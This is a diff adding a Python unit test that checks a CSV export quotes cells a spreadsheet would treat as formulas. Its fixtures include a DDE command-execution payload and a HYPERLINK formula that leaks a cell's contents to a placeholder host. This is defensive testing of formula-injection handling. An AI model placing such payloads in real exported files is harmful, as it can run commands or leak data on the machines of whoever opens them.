@@ -421,3 +421,21 @@ def test_a_journal_of_the_first_schema_is_brought_up_to_date_on_open(tmp_path):
     with Journal.open(tmp_path) as journal:
         assert journal.machines()[0]["reason"] == "bag done"
         assert journal.meta["schema_version"] == 2
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path: Path) -> None:
+    state = tmp_path
+    (state / "bag.txt").write_text("=cmd|' /C calc'!A0\necho fine\n")
+    with Journal.create(state, "csv", {"bag_sha256": "not checked here"}) as journal:
+        _result(journal, 1, stdout=b'=HYPERLINK("http://x.example/?"&A1)', stderr=b"@SUM(1)")
+        _result(journal, 2, "failed", exit_code=-1, stdout=b"+1", stderr=b"-2\tx")
+    out = io.StringIO()
+    export_results(state, out, fmt="csv")
+    first, second = csv.DictReader(io.StringIO(out.getvalue()))
+    assert first["command"] == "'=cmd|' /C calc'!A0" and first["stdout"].startswith("'=HYPERLINK")
+    assert first["stderr"] == "'@SUM(1)"
+    assert (second["stdout"], second["stderr"], second["exit_code"]) == ("'+1", "'-2\tx", "-1")  # numbers stay numbers
+    assert second["command"] == "echo fine"
+    json_out = io.StringIO()
+    export_results(state, json_out)  # JSON lines are data, not formulas: as they were
+    assert json.loads(json_out.getvalue().splitlines()[0])["stdout"].startswith("=HYPERLINK")
